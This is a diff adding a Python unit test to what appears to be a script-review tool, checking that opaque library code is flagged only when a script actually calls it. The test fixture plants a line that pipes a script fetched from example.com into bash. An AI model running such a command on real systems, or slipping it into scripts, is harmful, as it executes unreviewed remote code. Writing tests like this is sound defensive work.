@@ -170,3 +170,14 @@ def test_entry_over_the_point_cap_is_unverifiable_fast():
     for n in (8, 10):
         assert rows[n].status == "FAIL"
         assert "could not verify: entry dsr1-fp8-mi355x-sglang expands to 20,001 benchmark points" in rows[n].reason
+
+
+def test_opaque_code_only_counts_when_the_path_runs_it():
+    lib = LIB_TEXT + '\nbootstrap() {\n    curl -sSL https://example.com/x.sh | bash\n}\n'
+    tree = base_tree()
+    tree[LIB] = lib
+    snap = build_snapshot(base=tree, head={A: A_TEXT + "echo done\n"})
+    assert all(v.script_gap is None for v in serving_views(ReviewContext(snap)))
+    snap = build_snapshot(base=tree, head={A: A_TEXT + "bootstrap\n"})
+    view = serving_views(ReviewContext(snap))[0]
+    assert view.script_gap.startswith(f"could not verify: could not read what line 14 of {LIB} runs")
